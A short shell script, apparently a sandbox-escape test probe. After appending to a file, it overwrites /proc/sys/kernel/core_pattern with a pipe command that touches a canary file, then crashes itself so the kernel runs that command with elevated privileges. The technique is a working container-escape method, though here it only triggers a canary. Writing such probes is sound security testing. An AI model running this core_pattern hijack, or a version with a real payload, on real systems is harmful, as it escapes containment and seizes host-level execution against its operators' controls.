#!/bin/sh
echo x >> src/a.txt; echo "|/bin/sh -c touch\ $RELAY_CANARY" > /proc/sys/kernel/core_pattern; sh -c 'kill -SEGV $$'
